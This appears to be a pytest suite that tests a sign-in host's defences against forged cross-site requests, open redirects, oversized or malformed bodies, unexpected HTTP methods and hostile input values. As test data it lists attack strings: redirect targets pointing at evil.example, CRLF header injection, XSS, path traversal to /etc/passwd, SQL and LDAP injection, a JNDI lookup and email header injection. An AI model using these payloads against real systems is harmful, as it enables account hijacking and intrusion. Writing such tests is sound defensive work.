"""What strangers send to the sign-in host: forms and calls from elsewhere, ways away, odd requests."""

import json
import re
from urllib.parse import quote, urlencode, urljoin, urlsplit

import pytest
from tests.journeys.crowd import Browser, call, form, hidden, look, said
from tests.journeys.gateway import SIGN_IN
from tests.journeys.house import (
    CALLS,
    FORMS,
    LINKED,
    PAGES,
    PENDING,
    PRE,
    SSO,
    opened,
    set_cookies,
    sign_in_query,
    told,
)
from tests.journeys.mail_server import MailServer
from tests.journeys.test_races import PASSWORD, link_to, sign_in_by_mail

OURS = "yett.localhost"


@pytest.fixture(scope="module")
def post():
    with MailServer() as server:
        yield server


@pytest.fixture(scope="module")
def house(tmp_path_factory, heard_folder, upstream, post):
    with opened(tmp_path_factory.mktemp("house"), heard_folder, upstream, post) as gateway:
        yield gateway


# Requests that another site makes a browser send.

ELSEWHERE = [
    {"Origin": "https://evil.example"},
    {"Origin": "null"},
    {"Origin": f"http://{SIGN_IN}"},
    {"Origin": f"https://{SIGN_IN}.evil.example"},
    {"Origin": "", "Sec-Fetch-Site": "cross-site"},
    {"Origin": "", "Sec-Fetch-Site": "same-site"},
]


def test_a_form_that_another_site_sends_signs_nobody_in_or_out(house, post):
    @told
    async def story(crowd, house):
        browser = Browser(crowd, house)
        page = await browser.look("/signin")
        right = {"form": hidden(page), "name": "gus", "password": PASSWORD}
        for headers in ELSEWHERE:
            page = await crowd.ask(form(house, "/signin", browser.cookies, headers=headers, **right))
            assert (page.status, set_cookies(page)) == (403, []), headers
        # Somebody else's form, which signs in as them; and one of ours in a browser that did not get it.
        other = Browser(crowd, house)
        theirs = hidden(await other.look("/signin"))
        page = await crowd.ask(form(house, "/signin", browser.cookies, **{**right, "form": theirs}))
        assert (page.status, set_cookies(page)) == (403, [])
        page = await crowd.ask(form(house, "/signin", {}, **right))
        assert (page.status, set_cookies(page)) == (403, [])

        gus = await sign_in_by_mail(crowd, house, post, "gus")
        out = hidden(await gus.look("/signout"))
        for headers in ELSEWHERE:
            page = await crowd.ask(form(house, "/signout", gus.cookies, headers=headers, form=out))
            assert page.status == 403, headers
        assert "Gus" in (await gus.look("/")).text

    story(house)


@pytest.mark.parametrize("path", CALLS)
def test_a_call_that_another_site_could_send_is_not_looked_at(house, path):
    @told
    async def story(crowd, _house):
        body = {"name": "gus", "password": PASSWORD, "email": "gus@example.org"}
        kinds = ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "", "text/json",
                 "application/json-seq", "text/plain; application/json")  # fmt: skip
        for kind in kinds:
            page = await crowd.ask(call(path, headers={"Content-Type": kind}, **body))
            assert (page.status, set_cookies(page)) == (403, []), kind
        for headers in ELSEWHERE:
            page = await crowd.ask(call(path, headers=headers, **body))
            assert (page.status, set_cookies(page)) == (403, []), headers
        # Nor is any other site told that it may.
        asked = {
            "Origin": "https://evil.example",
            "Access-Control-Request-Method": "POST",
            "Access-Control-Request-Headers": "content-type",
        }
        page = await crowd.ask(look(path, headers=asked, method="OPTIONS"))
        assert page.status >= 400
        assert not any(name.lower().startswith("access-control-allow") for name, _ in page.headers)

    story(house)


# Where a sign-in may lead.

AWAY = [
    "//evil.example", "///evil.example", "/\\evil.example", "\\\\evil.example", "\\/evil.example", "/\t/evil.example",
    "\t//evil.example", " //evil.example", "https://evil.example", "https:evil.example", "HTTPS:/evil.example",
    "http:\\\\evil.example", "javascript:alert(1)", "data:text/html,x", "//evil.example@yett.localhost",
    "@evil.example",
    ".evil.example", "evil.example", "", "/\n/evil.example", "/\r\nLocation: https://evil.example", "/\x00", "//",
    "https://yett.localhost.evil.example/", "/é", "/\u2028/evil.example", "\uff0f\uff0fevil.example", "/" + "a" * 9000,
    "/%0d%0aX-Evil: 1", "/..//evil.example", "/.//evil.example", "/%5cevil.example", "/;//evil.example",
]  # fmt: skip


def leads(location):
    """The host that a browser ends up at; browsers read a backslash as a slash and skip tabs and line ends."""
    read = re.sub(r"[\t\r\n]", "", location).replace("\\", "/").strip()
    return urlsplit(urljoin(f"https://{OURS}/signin", read)).hostname


def test_nobody_is_led_to_another_host(house, post):
    @told
    async def story(crowd, house):
        gus = await sign_in_by_mail(crowd, house, post, "gus")
        for wanted in AWAY:
            query = urlencode({"next": wanted})
            for path in ("/signin", "/signin/done", "/signin/step-up", "/signin/factor", "/signin/enrol",
                         "/signin/link/go", "/signin/link/wait"):  # fmt: skip
                page = await crowd.ask(look(f"{path}?{query}", gus.cookies))
                assert page.status < 500
                assert "x-evil" not in {name.lower() for name, _ in page.headers}
                places = [page.header("location")] if page.header("location") else []
                places += re.findall(r'http-equiv="refresh" content="0; url=([^"]+)"', page.body.decode())
                places += re.findall(r'<a [^>]*href="([^"]+)"', page.body.decode())
                for place in places:
                    assert leads(place) == OURS, (path, wanted, place)
            answer = said(await crowd.ask(call("/api/signin", name="ada", password=PASSWORD, next=wanted)))
            assert leads(answer.get("next", "/")) == OURS
            inner = dict(part.split("=", 1) for part in urlsplit(answer["next"]).query.split("&") if part)
            assert leads(inner.get("next", "/")) == OURS
        # Twice is not allowed either, nor what cannot be read.
        for query in ("next=/a&next=//evil.example", "next=%ff%fe", "next=%2F%2Fevil.example", "next"):
            page = await crowd.ask(look(f"/signin?{query}", gus.cookies))
            assert leads(page.header("location") or "/") == OURS

    story(house)


# Requests that are odd.

HUGE = {
    "a megabyte": b"form=" + b"9" * 1_000_000,
    "many fields": b"&".join(b"a%d=1" % number for number in range(5000)),
    "nothing but signs": b"&" * 15_000,
    "no text": bytes(range(256)) * 40,
}
HUGE_CALLS = {
    "a megabyte": json.dumps({"name": "a" * 1_000_000}).encode(),
    "deep": b"[" * 15_000,
    "deep objects": b'{"a":' * 3_000,
    "no text": bytes(range(256)) * 40,
    "a number": b"1" * 15_000,
    "half a pair": b'{"name": "\\ud800", "password": "\\udfff", "email": "\\ud800"}',
    "nulls": b'{"name": null, "password": null, "code": null, "email": null, "credential": null}',
}


def test_bodies_of_any_size_and_shape_are_refused_without_harm(house):
    @told
    async def story(crowd, house):
        browser = Browser(crowd, house)
        await browser.look("/signin")
        for path in FORMS:
            for what, body in HUGE.items():
                asked = form(house, path, browser.cookies)
                asked.body = body
                page = await crowd.ask(asked)
                assert page.status in {303, 400, 403, 404, 409, 413}, (path, what, page.status)
        for path in CALLS:
            for what, body in HUGE_CALLS.items():
                asked = call(path, browser.cookies)
                asked.body = body
                page = await crowd.ask(asked)
                # A question to a passkey takes nothing, so there is nothing to be wrong.
                fine = {200} if (path, what) == ("/signin/passkey/begin", "nulls") else set()
                assert page.status in {400, 401, 403, 404, 409, 410, 413, 422} | fine, (
                    path,
                    what,
                    page.status,
                )
        assert (await browser.look("/signin")).status == 200

    story(house)


def test_no_method_but_its_own_does_anything(house, post):
    @told
    async def story(crowd, house):
        gus = await sign_in_by_mail(crowd, house, post, "gus")
        waiting = Browser(crowd, house)
        await waiting.call("/api/signin/link", email="ivy@example.org")
        link = link_to(post, "ivy")
        query = sign_in_query(house)
        for path in {*PAGES, *FORMS, *CALLS, f"/oidc/authorize?{query}", link}:
            for method in ("HEAD", "OPTIONS", "PUT", "DELETE", "PATCH", "PROPFIND"):
                for browser in (gus, waiting):
                    page = await crowd.ask(look(path, browser.cookies, method=method))
                    assert page.status < 500, (method, path)
                    assert "code=" not in page.header("location"), (method, path)
                    assert SSO not in "".join(set_cookies(page)), (method, path)
                    if method != "HEAD":
                        assert page.status in {400, 403, 404, 405, 501}, (method, path, page.status)
            for method in ("GET", "HEAD"):
                if path in CALLS or path == "/device/decide":
                    assert (await crowd.ask(look(path, gus.cookies, method=method))).status in {404, 405}, (
                        path
                    )
        assert "Gus" in (await gus.look("/")).text
        assert (await waiting.call("/api/signin/link/poll"))["state"] == "pending"

    story(house)


NASTY = [
    "\x00", "a\r\nSet-Cookie: evil=1", "%0d%0aX-Evil: 1", "<script>alert(1)</script>", "../../etc/passwd",
    "' OR 1=1 --", "\u202egus", "\uff41\uff44\uff41", "İ", "ß" * 500, "a" * 10_000, "{{7*7}}", "${jndi:ldap://evil}",
    "gus\x00",
    "*", ")(uid=*", "gus@example.org\r\nBcc: eve@example.org", "\U0001f3f0", "gus ", " gus",
]  # fmt: skip


def test_whatever_is_typed_stays_in_its_place(house):
    @told
    async def story(crowd, house):
        browser = Browser(crowd, house)
        for number, typed in enumerate(NASTY):
            sign_in = await browser.look("/signin")
            for fields in ({"name": typed, "password": "a wrong one"}, {"name": "zoe", "password": typed}):
                page = await browser.post("/signin", sign_in, **fields)
                assert page.status in {400, 413, 422, 429}, (typed, page.status)
                assert b"<script>alert" not in page.body
                assert not {name.lower() for name, _ in page.headers} & {"x-evil", "evil"}
                assert "evil" not in "".join(set_cookies(page))
            page = await browser.post("/signin/link", await browser.look("/signin/link"), email=typed)
            assert page.status in {303, 400, 413, 422}, (typed, page.status)
            for name in (
                "User-Agent",
                "Accept-Language",
                "X-Forwarded-For",
                "Forwarded",
                "X-Forwarded-Host",
                "Referer",
            ):
                value = typed.encode("utf-8", "replace").decode("latin-1")
                if re.search(r"[\r\n\x00]", value):
                    value = quote(value)
                page = await crowd.ask(
                    look(
                        "/signin?next=/x",
                        headers={name: value.encode("latin-1", "replace").decode("ascii", "replace")[:4000]},
                    )
                )
                assert page.status in {200, 400, 431}, (name, typed, page.status)
                assert b"<script>alert" not in page.body
            # As a cookie of ours.
            for cookie in (PRE, PENDING, SSO, LINKED):
                page = await crowd.ask(look("/signin", {cookie: quote(typed, safe="")[:4000]}))
                assert page.status in {200, 400}, (cookie, typed, number)

    story(house)
